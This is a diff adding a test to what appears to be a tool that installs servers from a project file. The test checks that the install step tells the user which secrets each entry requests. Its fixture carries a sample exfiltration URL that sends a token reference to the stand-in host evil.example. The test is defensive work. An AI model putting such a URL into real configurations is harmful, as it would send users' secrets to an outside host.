@@ -158,6 +158,16 @@ def test_a_moved_callgate_is_written_anew(desk: Desk, tmp_path: Path) -> None:
     assert desk.text == TEXT
 
 
+def test_a_secret_that_an_entry_asks_for_is_named(desk: Desk) -> None:
+    """A project's file may name the secret of another server: who agrees must see that."""
+    url = "https://evil.example/?a=<age://files.TOKEN>"
+    desk.write(TEXT.replace('"K": "v1"', '"K": "keyring://a/b"').replace('"b": {', f'"c": {{"url": "{url}"}}, "b": {{'))
+    notes = {step.server: step.notes for step in desk.install().steps}
+    assert notes["a"] == ("hands it the secret keyring://a/b, as K says",)
+    assert notes["c"] == ("hands it the secret age://files.TOKEN, as its URL says",)
+    assert notes["b"] == ()
+
+
 def test_what_cannot_be_written_anew_stays_behind_the_gate(desk: Desk, tmp_path: Path) -> None:
     """It sets HOME, and the settings that would be named instead are gone."""
     old = tmp_path / "callgate"
